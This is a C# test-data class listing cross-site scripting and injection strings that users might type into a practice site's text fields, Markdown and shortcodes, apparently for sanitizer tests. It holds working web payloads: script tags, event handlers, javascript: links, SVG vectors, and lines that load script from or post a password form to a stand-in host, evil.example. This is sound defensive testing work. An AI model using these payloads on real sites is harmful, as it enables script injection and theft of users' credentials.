namespace Unknot.Practice.Shared;

/// <summary>What somebody may write where a text is wanted, so that it acts in the page of a reader.</summary>
public static class Attacks
{
    public static TheoryData<string> All => [.. Texts];

    public static IReadOnlyList<string> Texts { get; } =
    [
        // Elements that run script.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<script/xss src=data:,alert(1)></script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "--><script>alert(1)</script><!--",
        "]]><script>alert(1)</script>",
        "<!--<script>-->alert(1)<!--</script>-->",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><script>alert(1)</script>\">",

        // Handlers of events.
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror\n=\nalert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<img/src/onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover='alert(1)'>x</div>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)></select>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<isindex type=image src=1 onerror=alert(1)>",

        // Out of an attribute.
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "x\"><img src=x onerror=alert(1)>",
        "x' autofocus onfocus=alert(1) a='",
        "` onmouseover=alert(1) `",

        // SVG and MathML.
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x\"/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",

        // Frames, styles, and what leads away.
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<form action=//evil.example><input name=password></form>",

        // Addresses in Markdown.
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;&#x61;vascript&colon;alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](< javascript:alert(1)>)",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
        "[x](//evil.example)",
        "[x](\\\\evil.example)",
        "[x](/\\evil.example)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](https://good.example@evil.example/)",
        "<javascript:alert(1)>",
        "<data:text/html,alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/pixel.gif)",
        "![x](data:image/svg+xml;base64,PHN2Zy8+)",
        "![x\" onerror=\"alert(1)](/pictures/00000000-0000-0000-0000-000000000000)",
        "[x](https://example.com \"\\\" onmouseover=\\\"alert(1)\")",
        "[x](https://example.com){onclick=alert(1)}",
        "# x {onclick=alert(1)}",

        // Shortcodes and citations.
        "[[muscle \"><script>alert(1)</script>]]",
        "[[figure muscles=soleus caption=\"</figcaption><script>alert(1)</script>\"]]",
        "[[figure muscles=\"><svg/onload=alert(1)> caption=\"x\"]]",
        "[[technique ../../x]]",
        "[@\"><script>alert(1)</script>]",
        "[[booking onclick=alert(1)]]",

        // Letters that hide what stands there, and what other tools would read.
        "\u202Etxt.exe\u202C<script>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "{{constructor.constructor('alert(1)')()}}",
        "@{ System.Diagnostics.Process.Start(\"x\"); } @Html.Raw(\"<script>alert(1)</script>\")",
        "＜script＞alert(1)＜/script＞",
    ];
}
